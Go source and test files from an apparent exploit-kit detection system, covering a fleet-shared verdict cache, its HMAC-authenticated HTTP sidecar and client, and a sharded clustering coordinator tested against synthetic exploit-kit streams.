func TestCacheVersionWipe(t *testing.T) {
	c := New(8)
	c.Put(1, 1, Verdict{Blocked: true, Family: "a"})
	c.Put(1, 2, Verdict{})

	// Newer version on Get wipes.
	if _, ok := c.Get(2, 1); ok {
		t.Fatal("verdict survived a version bump")
	}
	if c.Len() != 0 || c.Version() != 2 {
		t.Fatalf("after bump: len=%d version=%d", c.Len(), c.Version())
	}

	// Stale writes are ignored, stale reads miss without disturbing.
	c.Put(2, 3, Verdict{Blocked: true, Family: "b"})
	c.Put(1, 4, Verdict{Blocked: true, Family: "old"})
	if _, ok := c.Get(1, 3); ok {
		t.Fatal("stale-version read hit")
	}
	if _, ok := c.Get(2, 4); ok {
		t.Fatal("stale-version write landed")
	}
	if v, ok := c.Get(2, 3); !ok || v.Family != "b" {
		t.Fatalf("current entry lost: %+v ok=%v", v, ok)
	}
	m := c.Metrics()
	if m["wipes"].(int64) != 1 {
		t.Errorf("wipes = %v, want 1", m["wipes"])
	}
	if m["stale"].(int64) != 2 {
		t.Errorf("stale = %v, want 2", m["stale"])
	}
}

// TestCacheLRUEviction pins the bound: the least recently used entry
// leaves first, and touching an entry via Get refreshes it.
func TestCacheLRUEviction(t *testing.T) {
	c := New(3)
	c.Put(1, 1, Verdict{})
	c.Put(1, 2, Verdict{})
	c.Put(1, 3, Verdict{})
	c.Get(1, 1) // refresh 1; 2 is now oldest
	c.Put(1, 4, Verdict{})
	if _, ok := c.Get(1, 2); ok {
		t.Fatal("LRU entry survived eviction")
	}
	for _, d := range []uint64{1, 3, 4} {
		if _, ok := c.Get(1, d); !ok {
			t.Fatalf("entry %d evicted wrongly", d)
		}
	}
	if c.Metrics()["evicted"].(int64) != 1 {
		t.Errorf("evicted = %v, want 1", c.Metrics()["evicted"])
	}
}

// TestCacheConcurrent exercises the cache under the race detector with
// concurrent readers, writers, and version bumps.
func TestCacheConcurrent(t *testing.T) {
	c := New(64)
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < 2000; i++ {
				version := int64(1 + i/500) // occasional bumps
				digest := uint64(i % 100)
				if i%3 == 0 {
					c.Put(version, digest, Verdict{Blocked: digest%2 == 0, Family: map[bool]string{true: "f", false: ""}[digest%2 == 0]})
				} else {
					if v, ok := c.Get(version, digest); ok && v.Blocked && v.Family == "" {
						t.Error("blocked verdict without family escaped")
						return
					}
				}
			}
		}(g)
	}
	wg.Wait()
}

func TestHandlerWireValidation(t *testing.T) {
	c := New(8)
	h := Handler(c, nil)
	sum := ContentSum([]byte("some document"))
	cases := []struct {
		method, target, body string
		want                 int
	}{
		{"GET", "/verdicts?version=1&digest=42", "", http.StatusNoContent},
		{"GET", "/verdicts?version=0&digest=42", "", http.StatusBadRequest},
		{"GET", "/verdicts?version=-3&digest=42", "", http.StatusBadRequest},
		{"GET", "/verdicts?version=1&digest=banana", "", http.StatusBadRequest},
		{"GET", "/verdicts?version=1&digest=-1", "", http.StatusBadRequest},
		{"GET", "/verdicts?version=1", "", http.StatusBadRequest},
		{"POST", "/verdicts?version=1&digest=42", `{"blocked":true,"family":"x","sum":"` + sum + `"}`, http.StatusNoContent},
		{"POST", "/verdicts?version=1&digest=43", `{"blocked":false,"sum":"` + sum + `"}`, http.StatusNoContent},
		{"POST", "/verdicts?version=1&digest=44", `{"blocked":false,"family":"x","sum":"` + sum + `"}`, http.StatusBadRequest},
		{"POST", "/verdicts?version=1&digest=45", `{"nope":1}`, http.StatusBadRequest},
		{"POST", "/verdicts?version=1&digest=46", `{"blocked":true,"family":"` + strings.Repeat("a", maxVerdictBody) + `"}`, http.StatusRequestEntityTooLarge},
		// A verdict without a verifiable content sum can never be safely
		// consumed, so it must never enter the cache.
		{"POST", "/verdicts?version=1&digest=47", `{"blocked":false}`, http.StatusBadRequest},
		{"POST", "/verdicts?version=1&digest=48", `{"blocked":false,"sum":"abc123"}`, http.StatusBadRequest},
		{"POST", "/verdicts?version=1&digest=49", `{"blocked":false,"sum":"` + strings.ToUpper(sum) + `"}`, http.StatusBadRequest},
		{"DELETE", "/verdicts?version=1&digest=42", "", http.StatusMethodNotAllowed},
	}
	for _, tc := range cases {
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, httptest.NewRequest(tc.method, tc.target, strings.NewReader(tc.body)))
		if rec.Code != tc.want {
			t.Errorf("%s %s: status %d, want %d", tc.method, tc.target, rec.Code, tc.want)
		}
	}
	// The valid put landed and round-trips, content sum included.
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, httptest.NewRequest("GET", "/verdicts?version=1&digest=42", nil))
	if rec.Code != http.StatusOK {
		t.Fatalf("status %d, want 200", rec.Code)
	}
	if got := strings.TrimSpace(rec.Body.String()); got != `{"blocked":true,"family":"x","sum":"`+sum+`"}` {
		t.Fatalf("body %q", got)
	}
}

// TestHandlerAuthenticatedWrites pins the write gate: against a keyed
// sidecar, a POST without a MAC — or with a wrong one — is refused
// before it can plant a verdict, a correctly signed POST lands, and
// reads stay open.
func TestHandlerAuthenticatedWrites(t *testing.T) {
	key := []byte("fleet-secret")
	c := New(8)
	h := Handler(c, key)
	sum := ContentSum([]byte("doc"))
	body := `{"blocked":false,"sum":"` + sum + `"}`

	post := func(mac string) int {
		req := httptest.NewRequest("POST", "/verdicts?version=1&digest=7", strings.NewReader(body))
		if mac != "" {
			req.Header.Set(macHeader, mac)
		}
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, req)
		return rec.Code
	}
	if got := post(""); got != http.StatusForbidden {
		t.Errorf("unsigned POST: status %d, want 403", got)
	}
	if got := post("deadbeef"); got != http.StatusForbidden {
		t.Errorf("wrong MAC: status %d, want 403", got)
	}
	// A MAC for a different (version, digest) must not replay onto this one.
	replayed := hex.EncodeToString(writeMAC(key, 2, 7, []byte(body)))
	if got := post(replayed); got != http.StatusForbidden {
		t.Errorf("replayed MAC: status %d, want 403", got)
	}
	if c.Len() != 0 {
		t.Fatalf("unauthenticated write landed: %d entries", c.Len())
	}
	good := hex.EncodeToString(writeMAC(key, 1, 7, []byte(body)))
	if got := post(good); got != http.StatusNoContent {
		t.Errorf("signed POST: status %d, want 204", got)
	}
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, httptest.NewRequest("GET", "/verdicts?version=1&digest=7", nil))
	if rec.Code != http.StatusOK {
		t.Errorf("read against keyed sidecar: status %d, want 200", rec.Code)
	}

	// HTTPStore round-trip: a keyed client writes through, an unkeyed one
	// is refused (and records the failure).
	srv := httptest.NewServer(h)
	defer srv.Close()
	keyed := &HTTPStore{URL: srv.URL, Key: key}
	keyed.Put(1, 8, Verdict{Blocked: true, Family: "kit", Sum: sum})
	if v, ok := keyed.Get(1, 8); !ok || v.Family != "kit" {
		t.Errorf("keyed round trip: %+v ok=%v", v, ok)
	}
	unkeyed := &HTTPStore{URL: srv.URL}
	unkeyed.Put(1, 9, Verdict{Sum: sum})
	if _, ok := keyed.Get(1, 9); ok {
		t.Error("unkeyed Put landed on a keyed sidecar")
	}
	if unkeyed.Metrics()["errors"].(int64) != 1 {
		t.Errorf("unkeyed errors = %v, want 1", unkeyed.Metrics()["errors"])
	}
}

// TestHTTPStoreRoundTrip pins the client against a live sidecar,
// including cross-client sharing (one replica's Put is another's hit).
func TestHTTPStoreRoundTrip(t *testing.T) {
	c := New(64)
	srv := httptest.NewServer(Handler(c, nil))
	defer srv.Close()

	a := &HTTPStore{URL: srv.URL}
	b := &HTTPStore{URL: srv.URL}
	if _, ok := a.Get(3, 7); ok {
		t.Fatal("hit on empty sidecar")
	}
	sum := ContentSum([]byte("hot landing page"))
	a.Put(3, 7, Verdict{Blocked: true, Family: "kit", Sum: sum})
	v, ok := b.Get(3, 7)
	if !ok || v.Family != "kit" || v.Sum != sum {
		t.Fatalf("cross-client get: %+v ok=%v", v, ok)
	}
	if b.Metrics()["hits"].(int64) != 1 {
		t.Errorf("hits = %v, want 1", b.Metrics()["hits"])
	}
	// A version bump on the sidecar invalidates for every client.
	if _, ok := a.Get(4, 7); ok {
		t.Fatal("verdict survived version bump through the sidecar")
	}
}

// TestHTTPStoreFailureCooldown pins fail-open behavior: a dead sidecar
// costs one failed round trip, then the store goes quiet and every call
// is a local miss until the cooldown lapses.
func TestHTTPStoreFailureCooldown(t *testing.T) {
	var calls int
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		calls++
		http.Error(w, "down", http.StatusInternalServerError)
	}))
	defer srv.Close()

	s := &HTTPStore{URL: srv.URL, Cooldown: time.Hour}
	if _, ok := s.Get(1, 1); ok {
		t.Fatal("hit from a failing sidecar")
	}
	for i := 0; i < 10; i++ {
		if _, ok := s.Get(1, uint64(i)); ok {
			t.Fatal("hit during cooldown")
		}
		s.Put(1, uint64(i), Verdict{})
	}
	if calls != 1 {
		t.Fatalf("sidecar saw %d calls during cooldown, want 1", calls)
	}
	if s.Metrics()["cooldowns"].(int64) != 1 {
		t.Errorf("cooldowns = %v, want 1", s.Metrics()["cooldowns"])
	}
}

// TestHTTPStoreRejectsCorruptSidecar pins wire validation on the client
// side: a sidecar answering garbage is treated as a failure, not a hit.
func TestHTTPStoreRejectsCorruptSidecar(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `{"blocked":false,"family":"phantom"}`)
	}))
	defer srv.Close()
	s := &HTTPStore{URL: srv.URL}
	if _, ok := s.Get(1, 1); ok {
		t.Fatal("inconsistent verdict accepted")
	}
	if s.Metrics()["errors"].(int64) != 1 {
		t.Errorf("errors = %v, want 1", s.Metrics()["errors"])
	}
}
