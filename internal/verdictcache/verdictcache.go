// Package verdictcache is the fleet's shared verdict store: a bounded
// cache of scan outcomes keyed by (matcher version, content digest), so
// N gateway replicas behind one load balancer scan each hot document
// once fleet-wide instead of once per replica. Provider traffic is
// hot-key skewed — the same landing page hits many replicas within
// seconds — and a verdict computed on one replica is exactly the verdict
// every other replica would compute as long as both run the same matcher
// version, which the key pins.
//
// The cache is deliberately dumb about content: it stores digests and
// verdicts, never documents. Because the 64-bit lookup key is a fast
// non-cryptographic hash — and the adversary controls the documents, so
// colliding pairs are constructible — the key only ever nominates a
// candidate: every entry carries the SHA-256 of the content its verdict
// was computed for (Verdict.Sum), and the admitter compares it against
// the document in hand on every hit. A collision, accidental or crafted,
// therefore degrades to a cache miss and a local scan — never an
// unscanned admit. Entries are additionally advisory for exactly the
// matcher version they were scanned under, and a version bump wipes the
// cache wholesale. It ships in two deployments: in-process (gateload's
// fleet harness shares one *Cache across replicas) and as an HTTP
// sidecar (Handler inside sigserve, HTTPStore as the gateway-side
// client).
package verdictcache

import (
	"container/list"
	"crypto/sha256"
	"encoding/hex"
	"sync"
	"sync/atomic"
)

// Verdict is a cached scan outcome. It mirrors gateway.Decision without
// importing it (the gateway imports this package).
type Verdict struct {
	// Blocked reports whether the document was rejected.
	Blocked bool `json:"blocked"`
	// Family is the detected kit for blocked verdicts; empty otherwise.
	Family string `json:"family,omitempty"`
	// Sum is the lowercase hex SHA-256 of the document content the
	// verdict was computed for (ContentSum). The cache's 64-bit key is
	// non-cryptographic, so it only nominates this entry; a consumer must
	// compare Sum against the content sum of the document in hand and
	// treat any mismatch as a miss.
	Sum string `json:"sum"`
}

// ContentSum returns the checksum a Verdict carries in Sum for the given
// document: its lowercase hex SHA-256. Cryptographic strength is the
// point — the XXH64 cache key is collision-constructible by an adversary
// who controls the documents, so verdict identity must rest on a hash it
// cannot forge a second preimage for.
func ContentSum(doc []byte) string {
	h := sha256.Sum256(doc)
	return hex.EncodeToString(h[:])
}

// Store is the interface the gateway admitter consults: in-process
// (*Cache) and remote (*HTTPStore) implementations both satisfy it.
// Get and Put carry the matcher version the verdict was computed under;
// implementations must never serve a verdict across versions.
type Store interface {
	Get(version int64, digest uint64) (Verdict, bool)
	Put(version int64, digest uint64, v Verdict)
}

// Cache is a bounded LRU verdict cache for one matcher version at a
// time. A Get or Put carrying a newer version than the resident one
// wipes the cache wholesale — stale verdicts must not outlive the
// signature set that produced them — and entries from older versions are
// ignored outright (a lagging replica cannot poison the fleet with
// verdicts from a set everyone else has left behind). Safe for
// concurrent use.
type Cache struct {
	mu      sync.Mutex
	cap     int
	version int64
	entries map[uint64]*list.Element
	order   *list.List // front = most recent

	hits    atomic.Int64
	misses  atomic.Int64
	puts    atomic.Int64
	wipes   atomic.Int64
	evicted atomic.Int64
	stale   atomic.Int64
}

type cacheEntry struct {
	digest  uint64
	verdict Verdict
}

// DefaultCapacity bounds a cache built with capacity <= 0: enough for
// the hot tail of a day's distinct documents at ~50 B/entry (≈3 MiB),
// small enough to wipe instantly on a version change.
const DefaultCapacity = 65536

// New builds a cache holding at most capacity verdicts; capacity <= 0
// takes DefaultCapacity.
func New(capacity int) *Cache {
	if capacity <= 0 {
		capacity = DefaultCapacity
	}
	return &Cache{
		cap:     capacity,
		entries: make(map[uint64]*list.Element),
		order:   list.New(),
	}
}

// advanceLocked moves the cache to version v if v is newer, wiping every
// resident entry; it reports whether v is current after the call.
func (c *Cache) advanceLocked(v int64) bool {
	if v < c.version {
		return false
	}
	if v > c.version {
		if len(c.entries) > 0 {
			c.wipes.Add(1)
		}
		c.version = v
		c.entries = make(map[uint64]*list.Element)
		c.order.Init()
	}
	return true
}

// Get returns the cached verdict for digest under version. A version
// ahead of the cache wipes it (and misses); a version behind it misses
// without disturbing resident entries.
func (c *Cache) Get(version int64, digest uint64) (Verdict, bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if !c.advanceLocked(version) {
		c.stale.Add(1)
		c.misses.Add(1)
		return Verdict{}, false
	}
	el, ok := c.entries[digest]
	if !ok {
		c.misses.Add(1)
		return Verdict{}, false
	}
	c.order.MoveToFront(el)
	c.hits.Add(1)
	return el.Value.(*cacheEntry).verdict, true
}

// Put records a verdict computed under version. Puts from versions
// behind the cache are dropped; a put from a newer version wipes first.
func (c *Cache) Put(version int64, digest uint64, v Verdict) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if !c.advanceLocked(version) {
		c.stale.Add(1)
		return
	}
	c.puts.Add(1)
	if el, ok := c.entries[digest]; ok {
		el.Value.(*cacheEntry).verdict = v
		c.order.MoveToFront(el)
		return
	}
	c.entries[digest] = c.order.PushFront(&cacheEntry{digest: digest, verdict: v})
	for len(c.entries) > c.cap {
		back := c.order.Back()
		c.order.Remove(back)
		delete(c.entries, back.Value.(*cacheEntry).digest)
		c.evicted.Add(1)
	}
}

// Version returns the matcher version the resident entries belong to.
func (c *Cache) Version() int64 {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.version
}

// Len returns the resident entry count.
func (c *Cache) Len() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return len(c.entries)
}

// Metrics returns the cache's /metrics fields.
func (c *Cache) Metrics() map[string]any {
	c.mu.Lock()
	entries := len(c.entries)
	version := c.version
	c.mu.Unlock()
	return map[string]any{
		"entries": entries,
		"version": version,
		"hits":    c.hits.Load(),
		"misses":  c.misses.Load(),
		"puts":    c.puts.Load(),
		"wipes":   c.wipes.Load(),
		"evicted": c.evicted.Load(),
		"stale":   c.stale.Load(),
	}
}
