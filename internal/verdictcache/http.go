package verdictcache

import (
	"bytes"
	"context"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strconv"
	"sync/atomic"
	"time"
)

// maxVerdictBody caps a verdict POST: a verdict is a bool, a family
// name, and a content sum, so anything past 4 KiB is malformed or
// hostile.
const maxVerdictBody = 4 << 10

// macHeader carries the writer's HMAC on authenticated verdict POSTs.
const macHeader = "X-Verdict-MAC"

// Handler exposes a Cache over HTTP as the fleet's shared verdict
// sidecar:
//
//	GET  <path>?version=V&digest=D          → 200 {"blocked":..,"family":..,"sum":..} | 204
//	POST <path>?version=V&digest=D  + body  → 204
//
// Every parameter is validated on the wire — version must be a positive
// decimal int64, digest an unsigned decimal uint64, and a POSTed verdict
// must be a small well-formed JSON object carrying a well-formed content
// sum whose family is empty unless blocked — so a confused or hostile
// client cannot plant junk keys or oversized entries. When key is
// non-empty, POSTs must additionally carry an X-Verdict-MAC header
// holding the hex HMAC-SHA256 of the (version, digest, body) tuple under
// that key: a cached verdict overrides scan decisions fleet-wide, so
// write access is gated on the same shared-secret footing as signature
// attestations. An empty key accepts unauthenticated writes and is only
// safe when the endpoint is reachable from replicas alone. Cache
// semantics (version wipes, stale drops) are the Cache's own.
func Handler(c *Cache, key []byte) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		version, digest, err := wireKey(r)
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		switch r.Method {
		case http.MethodGet:
			v, ok := c.Get(version, digest)
			if !ok {
				w.WriteHeader(http.StatusNoContent)
				return
			}
			w.Header().Set("Content-Type", "application/json")
			json.NewEncoder(w).Encode(v)
		case http.MethodPost:
			body, err := io.ReadAll(io.LimitReader(r.Body, maxVerdictBody+1))
			if err != nil {
				http.Error(w, "read body", http.StatusBadRequest)
				return
			}
			if len(body) > maxVerdictBody {
				http.Error(w, "verdict too large", http.StatusRequestEntityTooLarge)
				return
			}
			if len(key) > 0 && !verifyWriteMAC(key, version, digest, body, r.Header.Get(macHeader)) {
				http.Error(w, "missing or invalid "+macHeader, http.StatusForbidden)
				return
			}
			v, err := decodeVerdict(body)
			if err != nil {
				http.Error(w, err.Error(), http.StatusBadRequest)
				return
			}
			c.Put(version, digest, v)
			w.WriteHeader(http.StatusNoContent)
		default:
			http.Error(w, "method not allowed", http.StatusMethodNotAllowed)
		}
	})
}

// wireKey parses and validates the version/digest query parameters.
func wireKey(r *http.Request) (version int64, digest uint64, err error) {
	q := r.URL.Query()
	version, err = strconv.ParseInt(q.Get("version"), 10, 64)
	if err != nil || version <= 0 {
		return 0, 0, fmt.Errorf("bad version parameter")
	}
	digest, err = strconv.ParseUint(q.Get("digest"), 10, 64)
	if err != nil {
		return 0, 0, fmt.Errorf("bad digest parameter")
	}
	return version, digest, nil
}

// decodeVerdict parses a wire verdict strictly: unknown fields rejected,
// family only meaningful on blocked verdicts, content sum required and
// well-formed (an entry without a verifiable sum could never be safely
// consumed, so it must never enter the cache).
func decodeVerdict(body []byte) (Verdict, error) {
	var v Verdict
	dec := json.NewDecoder(bytes.NewReader(body))
	dec.DisallowUnknownFields()
	if err := dec.Decode(&v); err != nil {
		return Verdict{}, fmt.Errorf("bad verdict body")
	}
	if !v.Blocked && v.Family != "" {
		return Verdict{}, fmt.Errorf("family on unblocked verdict")
	}
	if !validSum(v.Sum) {
		return Verdict{}, fmt.Errorf("missing or malformed verdict sum")
	}
	return v, nil
}

// validSum reports whether s is a well-formed ContentSum: exactly the
// lowercase hex of one SHA-256.
func validSum(s string) bool {
	if len(s) != sha256.Size*2 {
		return false
	}
	for i := 0; i < len(s); i++ {
		if c := s[i]; (c < '0' || c > '9') && (c < 'a' || c > 'f') {
			return false
		}
	}
	return true
}

// writeMAC computes the HMAC an authenticated verdict POST must carry:
// HMAC-SHA256 over a domain-separated encoding of the key tuple and the
// exact body bytes, so a captured MAC cannot be replayed onto a
// different (version, digest) or a different verdict.
func writeMAC(key []byte, version int64, digest uint64, body []byte) []byte {
	mac := hmac.New(sha256.New, key)
	fmt.Fprintf(mac, "kizzle-verdict-v1\n%d\n%d\n", version, digest)
	mac.Write(body)
	return mac.Sum(nil)
}

// verifyWriteMAC checks a presented hex MAC header in constant time.
func verifyWriteMAC(key []byte, version int64, digest uint64, body []byte, header string) bool {
	presented, err := hex.DecodeString(header)
	if err != nil {
		return false
	}
	return hmac.Equal(presented, writeMAC(key, version, digest, body))
}

// defaultHTTPTimeout bounds one sidecar round trip. The cache is an
// optimization sitting on the admission path: a slow sidecar must cost
// less than the scan it would have saved, so the budget is tight and a
// timeout just means "scan locally".
const defaultHTTPTimeout = 50 * time.Millisecond

// defaultCooldown is how long HTTPStore stops talking to a failing
// sidecar before probing again. Admission keeps working the whole time —
// every Get during cooldown is a miss, every Put a no-op.
const defaultCooldown = 5 * time.Second

// HTTPStore is the gateway-side client for a verdict sidecar. It fails
// open: errors and timeouts count as cache misses, and after a failure
// the store goes quiet for a cooldown instead of adding a doomed round
// trip to every admission. Safe for concurrent use.
type HTTPStore struct {
	// URL is the sidecar endpoint (e.g. http://sigserve:8344/verdicts).
	URL string
	// Key, when non-empty, signs every Put with the X-Verdict-MAC header
	// a keyed sidecar requires (sigserve -verdictkey). Empty sends
	// unauthenticated writes, for sidecars on isolated replica networks.
	Key []byte
	// Client overrides the HTTP client; nil uses a dedicated client with
	// defaultHTTPTimeout.
	Client *http.Client
	// Cooldown overrides how long the store stays quiet after a failure;
	// zero uses defaultCooldown.
	Cooldown time.Duration

	// quietUntil is the UnixNano deadline before which the store skips
	// the network entirely.
	quietUntil atomic.Int64

	hits     atomic.Int64
	misses   atomic.Int64
	puts     atomic.Int64
	errors   atomic.Int64
	cooldown atomic.Int64
}

func (s *HTTPStore) client() *http.Client {
	if s.Client != nil {
		return s.Client
	}
	return &http.Client{Timeout: defaultHTTPTimeout}
}

// quiet reports whether the store is inside a failure cooldown.
func (s *HTTPStore) quiet() bool {
	return time.Now().UnixNano() < s.quietUntil.Load()
}

// fail records a sidecar failure and starts the cooldown.
func (s *HTTPStore) fail() {
	s.errors.Add(1)
	d := s.Cooldown
	if d <= 0 {
		d = defaultCooldown
	}
	s.quietUntil.Store(time.Now().Add(d).UnixNano())
	s.cooldown.Add(1)
}

func (s *HTTPStore) keyURL(version int64, digest uint64) string {
	return fmt.Sprintf("%s?version=%d&digest=%d", s.URL, version, digest)
}

// Get asks the sidecar for a verdict; any failure is a miss.
func (s *HTTPStore) Get(version int64, digest uint64) (Verdict, bool) {
	if s.quiet() {
		s.misses.Add(1)
		return Verdict{}, false
	}
	req, err := http.NewRequestWithContext(context.Background(), http.MethodGet, s.keyURL(version, digest), nil)
	if err != nil {
		s.fail()
		s.misses.Add(1)
		return Verdict{}, false
	}
	resp, err := s.client().Do(req)
	if err != nil {
		s.fail()
		s.misses.Add(1)
		return Verdict{}, false
	}
	defer resp.Body.Close()
	if resp.StatusCode == http.StatusNoContent {
		s.misses.Add(1)
		return Verdict{}, false
	}
	if resp.StatusCode != http.StatusOK {
		s.fail()
		s.misses.Add(1)
		return Verdict{}, false
	}
	body, err := io.ReadAll(io.LimitReader(resp.Body, maxVerdictBody+1))
	if err != nil || len(body) > maxVerdictBody {
		s.fail()
		s.misses.Add(1)
		return Verdict{}, false
	}
	// Validate the sidecar's answer as strictly as the sidecar validates
	// ours: a compromised or corrupt cache must not hand the gateway an
	// unparseable or inconsistent verdict.
	v, err := decodeVerdict(body)
	if err != nil {
		s.fail()
		s.misses.Add(1)
		return Verdict{}, false
	}
	s.hits.Add(1)
	return v, true
}

// Put publishes a verdict to the sidecar; failures are dropped (the
// verdict was already served locally — sharing it is best-effort).
func (s *HTTPStore) Put(version int64, digest uint64, v Verdict) {
	if s.quiet() {
		return
	}
	body, err := json.Marshal(v)
	if err != nil {
		return
	}
	req, err := http.NewRequestWithContext(context.Background(), http.MethodPost, s.keyURL(version, digest), bytes.NewReader(body))
	if err != nil {
		s.fail()
		return
	}
	req.Header.Set("Content-Type", "application/json")
	if len(s.Key) > 0 {
		req.Header.Set(macHeader, hex.EncodeToString(writeMAC(s.Key, version, digest, body)))
	}
	resp, err := s.client().Do(req)
	if err != nil {
		s.fail()
		return
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusNoContent {
		s.fail()
		return
	}
	s.puts.Add(1)
}

// Metrics returns the client's /metrics fields.
func (s *HTTPStore) Metrics() map[string]any {
	return map[string]any{
		"hits":      s.hits.Load(),
		"misses":    s.misses.Load(),
		"puts":      s.puts.Load(),
		"errors":    s.errors.Load(),
		"cooldowns": s.cooldown.Load(),
	}
}
