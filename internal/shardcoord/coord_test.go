package shardcoord

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"reflect"
	"strings"
	"testing"

	"kizzle/internal/contentcache"
	"kizzle/internal/ekit"
	"kizzle/internal/jstoken"
	"kizzle/internal/pipeline"
	"kizzle/internal/winnow"
)

// seqsOf turns byte strings into symbol sequences (one in-alphabet symbol
// per byte), enough structure for transport-level tests.
func seqsOf(texts ...string) [][]jstoken.Symbol {
	space := jstoken.Symbol(jstoken.SymbolSpace())
	out := make([][]jstoken.Symbol, len(texts))
	for i, s := range texts {
		seq := make([]jstoken.Symbol, len(s))
		for j := 0; j < len(s); j++ {
			seq[j] = jstoken.Symbol(s[j]) % space
		}
		out[i] = seq
	}
	return out
}

func dayInputs(t testing.TB, day, benign int) []pipeline.Input {
	t.Helper()
	scfg := ekit.DefaultStreamConfig()
	scfg.BenignPerDay = benign
	stream, err := ekit.NewStream(scfg)
	if err != nil {
		t.Fatal(err)
	}
	samples := stream.Day(day)
	inputs := make([]pipeline.Input, len(samples))
	for i, s := range samples {
		inputs[i] = pipeline.Input{ID: s.ID, Content: s.Content}
	}
	return inputs
}

func seededCorpus(day int) *pipeline.Corpus {
	corpus := pipeline.NewCorpus(winnow.DefaultConfig(), 16)
	for _, fam := range ekit.Families {
		corpus.Add(fam.String(), ekit.Payload(fam, day-1))
	}
	return corpus
}

func stripTimings(r *pipeline.Result) {
	r.Stats.Tokenize, r.Stats.Cluster, r.Stats.Reduce = 0, 0, 0
	r.Stats.Label, r.Stats.Signature = 0, 0
	r.Stats.CacheHits, r.Stats.CacheMisses = 0, 0
}

// loopbackWorkers builds n in-process workers, optionally each with its
// own verdict cache.
func loopbackWorkers(n int, withCache bool) []*Worker {
	workers := make([]*Worker, n)
	for i := range workers {
		opts := []WorkerOption{WithWorkerParallelism(2)}
		if withCache {
			opts = append(opts, WithWorkerCache(contentcache.New(8<<20)))
		}
		workers[i] = NewWorker(opts...)
	}
	return workers
}

// TestShardedMatchesSingleProcess is the tentpole's differential test: the
// distributed pipeline must produce identical clusters and identical
// signatures to the single-process pipeline, at every shard count, with
// small partitions so the batch actually fans out across many requests.
func TestShardedMatchesSingleProcess(t *testing.T) {
	day := ekit.Date(8, 6)
	inputs := dayInputs(t, day, 120)
	cfg := pipeline.DefaultConfig()
	cfg.PartitionSize = 8 // force many partitions per batch

	ref, err := pipeline.Process(inputs, seededCorpus(day), cfg)
	if err != nil {
		t.Fatal(err)
	}
	stripTimings(&ref)

	for _, shards := range []int{1, 2, 4} {
		for _, withCache := range []bool{false, true} {
			name := fmt.Sprintf("shards=%d,cache=%v", shards, withCache)
			t.Run(name, func(t *testing.T) {
				workers := loopbackWorkers(shards, withCache)
				scfg := cfg
				scfg.Clusterer = NewCoordinator(NewLoopback(workers))
				// Two runs per setup: the second exercises warm worker
				// verdict caches, which must not change anything either.
				for run := 0; run < 2; run++ {
					got, err := pipeline.Process(inputs, seededCorpus(day), scfg)
					if err != nil {
						t.Fatal(err)
					}
					stripTimings(&got)
					if !reflect.DeepEqual(ref.Clusters, got.Clusters) {
						t.Fatalf("run %d: sharded clusters diverge from single-process", run)
					}
					if !reflect.DeepEqual(ref.Signatures, got.Signatures) {
						t.Fatalf("run %d: sharded signatures diverge from single-process", run)
					}
					if got.Stats.Partitions < shards {
						t.Fatalf("run %d: only %d partitions for %d shards — batch too small to distribute",
							run, got.Stats.Partitions, shards)
					}
				}
			})
		}
	}
}

// TestCoordinatorFailover kills one shard and expects the batch to
// complete through retries on the surviving shard, with unchanged output.
func TestCoordinatorFailover(t *testing.T) {
	day := ekit.Date(8, 7)
	inputs := dayInputs(t, day, 60)
	cfg := pipeline.DefaultConfig()
	cfg.PartitionSize = 30

	ref, err := pipeline.Process(inputs, seededCorpus(day), cfg)
	if err != nil {
		t.Fatal(err)
	}
	stripTimings(&ref)

	// Sequential dispatch makes the dead shard's involvement
	// deterministic: under the concurrent shared queue the live shard can
	// drain every partition before the dead one is ever asked.
	healthy := NewLoopback(loopbackWorkers(1, false))
	flaky := &flakyTransport{inner: healthy, deadShard: 0, shards: 2}
	scfg := cfg
	scfg.Clusterer = NewCoordinator(flaky, WithSequentialDispatch())
	got, err := pipeline.Process(inputs, seededCorpus(day), scfg)
	if err != nil {
		t.Fatalf("batch failed despite a surviving shard: %v", err)
	}
	stripTimings(&got)
	if !reflect.DeepEqual(ref.Clusters, got.Clusters) || !reflect.DeepEqual(ref.Signatures, got.Signatures) {
		t.Fatal("failover changed pipeline output")
	}
	if flaky.failed == 0 {
		t.Fatal("dead shard was never exercised")
	}

	// With every shard dead the batch must fail, not hang or fabricate —
	// via both dispatch modes.
	allDead := &flakyTransport{inner: healthy, deadShard: -1, shards: 2}
	scfg.Clusterer = NewCoordinator(allDead)
	if _, err := pipeline.Process(inputs, seededCorpus(day), scfg); err == nil {
		t.Fatal("batch succeeded with no live shards (concurrent dispatch)")
	}
	scfg.Clusterer = NewCoordinator(allDead, WithSequentialDispatch())
	if _, err := pipeline.Process(inputs, seededCorpus(day), scfg); err == nil {
		t.Fatal("batch succeeded with no live shards")
	}
}

// flakyTransport reports `shards` shards but fails requests to deadShard
// (-1 = all dead), routing the rest to a single healthy inner worker.
type flakyTransport struct {
	inner     Transport
	shards    int
	deadShard int
	failed    int
}

func (f *flakyTransport) Shards() int { return f.shards }

func (f *flakyTransport) Partition(ctx context.Context, shard int, req *PartitionRequest) (*PartitionResponse, error) {
	if shard == f.deadShard || f.deadShard == -1 {
		f.failed++
		return nil, fmt.Errorf("shard %d is down", shard)
	}
	return f.inner.Partition(ctx, 0, req)
}

// TestWorkerHandlerHTTP exercises the worker's HTTP surface through the
// loopback round trip: malformed bodies, wrong methods, mismatched
// lengths, and health checks.
